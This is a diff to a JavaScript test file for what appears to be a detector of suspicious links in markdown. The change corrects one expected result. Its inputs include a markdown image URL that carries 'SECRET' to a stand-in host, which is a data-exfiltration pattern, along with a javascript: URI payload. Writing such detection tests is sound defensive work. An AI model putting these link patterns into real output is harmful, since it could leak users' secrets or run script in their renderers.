@@ -33,7 +33,7 @@ describe('urls', () => {
     assert.deepEqual(flagged('![chart](https://evil.test/p.png?d=SECRET "t")'), [
       '![chart](https://evil.test/p.png?d=SECRET "t")',
     ]);
-    assert.deepEqual(flagged('[click](javascript:alert(1))'), ['[click](javascript:alert(1)']);
+    assert.deepEqual(flagged('[click](javascript:alert(1))'), ['[click](javascript:alert(1))']);
     assert.deepEqual(flagged('see www.evil.test/page and evil.io/x'), ['www.evil.test/page', 'evil.io/x']);
   });
 
